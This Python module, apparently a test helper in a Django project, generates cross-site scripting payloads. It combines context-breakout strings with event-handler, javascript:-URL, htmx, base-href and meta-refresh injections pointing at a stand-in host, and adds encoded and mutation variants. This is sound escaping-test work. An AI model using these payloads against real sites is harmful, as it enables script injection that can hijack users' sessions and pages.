"""Texts that become scripts where one place forgets that they are texts."""

from itertools import product

from django.conf import settings

# What leads out of where a text may stand: content, an attribute, a box, the title, a script, a comment.
OUT_OF = [
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "--></style>",
    '" ',
    "' ",
    "</option></select>",
]
# What does something there, some of it without any script of its own.
DOES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "autofocus onfocus=alert(1) tabindex=1 x=",
    "<input autofocus onfocus=alert(1)>",
    "<b hx-get=/planted/ hx-trigger=load>x</b>",
    "<details open ontoggle=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<base href=//e.example/>",
    "<meta http-equiv=refresh content=0;//e.example>",
]
ALSO = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://x",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "//e.example/<svg onload=alert(1)>",
    "https://x/\"onmouseover='alert(1)'",
    "http://x.example/<img/src/onerror=alert(1)>",
    'mailto:a@b.c?x="><svg/onload=alert(1)>',
    "{{7*7}}{% debug %}${alert(1)}",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "&lt;img src=x onerror=alert(1)&gt;",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<a\nhref="jav\tascript:alert(1)">x</a>',
    "＜script＞alert(1)＜/script＞",
]
QUICK = settings.BASE_DIR.parent / "shared/data/payloads/xss/xss_payloads_quick.txt"


def payloads():
    """All of them: each way out with half of the deeds, some that stand alone, the project's collection."""
    ways = product(enumerate(OUT_OF), enumerate(DOES))
    results = [out_of + does for (way, out_of), (deed, does) in ways if (way + deed) % 2 == 0] + ALSO
    results += QUICK.read_text().splitlines() if QUICK.exists() else []
    return list(dict.fromkeys(results))
